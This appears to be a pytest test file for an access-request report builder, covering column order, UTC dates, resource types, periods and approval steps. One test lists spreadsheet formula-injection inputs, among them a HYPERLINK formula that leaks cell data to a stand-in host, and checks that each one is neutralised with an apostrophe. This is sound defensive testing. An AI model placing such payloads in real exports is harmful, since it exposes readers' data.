"""Report rows: the columns of issue 6, ISO dates, comma-separated lists, inert cells."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.reports import (
    DEFAULT_COLUMNS,
    Column,
    Period,
    ReportRecord,
    ReportSpec,
    RowBuilder,
    StepDecision,
    build_row,
    header_row,
    iso_utc,
    neutralise,
    resource_type,
)

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

RECORD = ReportRecord(
    request_id="AR-7K3Q9M",
    requested_at=T0,
    requester_name="Alice Doe",
    requester_email="alice@example.com",
    integration="prod-postgres",
    resources=("sales.orders", "sales.customers"),
    permissions=("read_only", "read_write"),
    justification="INC-42: orders stuck",
    status="expired",
    automatic=False,
    flow="developers",
    bundle="prod-incident",
    granted_at=T0 + timedelta(minutes=5),
    revoked_at=T0 + timedelta(hours=1, minutes=5),
    request_ended_at=T0 + timedelta(hours=1, minutes=6),
    approver_names=("Bob Roe",),
    approver_emails=("bob@example.com",),
    decision_reason=None,
)


def cells(record: ReportRecord) -> dict[str, str]:
    return dict(zip(header_row(DEFAULT_COLUMNS), build_row(record), strict=True))


def test_the_default_columns_are_those_of_the_issue_in_order_with_readable_headers() -> None:
    assert header_row(DEFAULT_COLUMNS) == [
        "Request ID",
        "Request Date",
        "Grant Date",
        "Revoke/End Date",
        "Requester Name",
        "Requester Email",
        "Grantee Name",
        "Grantee Email",
        "Integration",
        "Resource Type",
        "Resources",
        "Permissions",
        "Approver Names",
        "Approver Emails",
        "Approver Reason",
        "Justification",
        "Status",
        "Trigger",
        "Access Flow",
        "Bundle Name",
        "Approval Steps",
    ]


def test_a_record_becomes_one_row_with_utc_iso_dates_and_comma_separated_lists() -> None:
    assert cells(RECORD) == {
        "Request ID": "AR-7K3Q9M",
        "Request Date": "2026-03-01T12:00:00Z",
        "Grant Date": "2026-03-01T12:05:00Z",
        "Revoke/End Date": "2026-03-01T13:05:00Z",
        "Requester Name": "Alice Doe",
        "Requester Email": "alice@example.com",
        "Grantee Name": "Alice Doe",
        "Grantee Email": "alice@example.com",
        "Integration": "prod-postgres",
        "Resource Type": "table",
        "Resources": "sales.orders, sales.customers",
        "Permissions": "read_only, read_write",
        "Approver Names": "Bob Roe",
        "Approver Emails": "bob@example.com",
        "Approver Reason": "",
        "Justification": "INC-42: orders stuck",
        "Status": "expired",
        "Trigger": "manual request",
        "Access Flow": "developers",
        "Bundle Name": "prod-incident",
        "Approval Steps": "",
    }


def test_a_request_without_a_bundle_has_an_empty_bundle_name() -> None:
    assert cells(RECORD._replace(bundle=None))["Bundle Name"] == ""


def test_an_automatic_flow_is_told_apart_from_a_manual_request() -> None:
    automatic = RECORD._replace(automatic=True, approver_names=(), approver_emails=())
    row = cells(automatic)
    assert (row["Trigger"], row["Approver Names"]) == ("automatic flow", "")


def test_the_end_date_is_the_integrations_revoke_time_else_the_end_of_the_request() -> None:
    never_granted = RECORD._replace(granted_at=None, revoked_at=None)
    still_active = RECORD._replace(revoked_at=None, request_ended_at=None)
    assert cells(never_granted)["Revoke/End Date"] == "2026-03-01T13:06:00Z"
    assert cells(never_granted)["Grant Date"] == ""
    assert cells(still_active)["Revoke/End Date"] == ""


def test_dates_in_other_time_zones_are_written_in_utc_to_the_second() -> None:
    paris = timezone(timedelta(hours=1))
    assert iso_utc(datetime(2026, 3, 1, 13, 0, 59, 999_999, tzinfo=paris)) == (
        "2026-03-01T12:00:59Z"
    )
    assert iso_utc(None) == ""


def test_selected_columns_come_in_the_order_asked() -> None:
    columns = (Column.BUNDLE_NAME, Column.REQUEST_ID, Column.PERMISSIONS)
    assert header_row(columns) == ["Bundle Name", "Request ID", "Permissions"]
    assert RowBuilder(columns=columns).row(RECORD) == [
        "prod-incident",
        "AR-7K3Q9M",
        "read_only, read_write",
    ]


def test_a_report_needs_at_least_one_column() -> None:
    with pytest.raises(ValueError, match="at least one column"):
        ReportSpec(columns=())


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_apostrophe(
    hostile: str,
) -> None:
    assert neutralise(hostile) == "'" + hostile
    row = cells(RECORD._replace(justification=hostile, requester_name=hostile))
    assert row["Justification"] == row["Requester Name"] == "'" + hostile


@pytest.mark.parametrize("inert", ["", "INC-42", "a=b", "1+1", "sales.*", "'=already quoted"])
def test_cells_that_cannot_start_a_formula_are_left_as_they_are(inert: str) -> None:
    assert neutralise(inert) == inert


@given(st.text())
def test_any_text_round_trips_through_the_csv_module_and_never_starts_a_formula(
    text: str,
) -> None:
    row = build_row(RECORD._replace(justification=text, requester_name=text))
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(row)
    [read_back] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read_back == row
    for cell in read_back:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    expected = text if neutralise(text) == text else "'" + text
    assert read_back[header_row(DEFAULT_COLUMNS).index("Justification")] == expected


@pytest.mark.parametrize(
    ("resource", "integration_type", "kind"),
    [
        ("sales.orders", None, "table"),
        ("sales.*", None, "schema"),
        ("sales", None, "schema"),
        ("sales.*", "postgresql", "schema"),
        ("shop.*", "mysql", "database"),
        ("shop", "mariadb", "database"),
        ("shop.orders", "mysql", "table"),
        ("orders:*", None, "key_pattern"),
        ("orders*", None, "key_pattern"),
        ("session:42", "redis", "key_pattern"),
        ("anything", "webhook", "resource"),
    ],
)
def test_the_resource_type_is_read_from_the_resource_and_the_integration_type(
    resource: str, integration_type: str | None, kind: str
) -> None:
    assert resource_type(resource, integration_type=integration_type) == kind


def test_a_row_lists_each_resource_type_once_and_knows_the_integrations_type() -> None:
    mixed = RECORD._replace(integration="shop", resources=("shop.*", "shop.orders", "shop.users"))
    builder = RowBuilder(columns=(Column.RESOURCE_TYPE,), integration_types={"shop": "mysql"})
    assert builder.row(mixed) == ["database, table"]
    assert RowBuilder(columns=(Column.RESOURCE_TYPE,)).row(mixed) == ["schema, table"]


def test_a_relative_period_ends_when_the_report_runs() -> None:
    assert Period(last=timedelta(days=7)).bounds(now=T0) == (T0 - timedelta(days=7), None)
    assert Period(since=T0, until=T0 + timedelta(days=1)).bounds(now=T0 + timedelta(days=9)) == (
        T0,
        T0 + timedelta(days=1),
    )


def test_a_period_is_either_relative_or_absolute_and_starts_before_it_ends() -> None:
    with pytest.raises(ValueError, match="either relative"):
        Period(since=T0, last=timedelta(days=1))
    with pytest.raises(ValueError, match="start before"):
        Period(since=T0, until=T0)


def test_the_approval_steps_column_lists_each_verdict_by_step_with_its_reason() -> None:
    record = RECORD._replace(
        step_decisions=(
            StepDecision(step=0, approver="Bob Roe", approved=True),
            StepDecision(step=1, approver="Carol King", approved=True, reason="fine for INC-42"),
            StepDecision(step=1, approver="Dave Null", approved=False, reason="not now"),
        )
    )

    assert cells(record)["Approval Steps"] == (
        "step 1: Bob Roe approved; "
        "step 2: Carol King approved (fine for INC-42), Dave Null denied (not now)"
    )
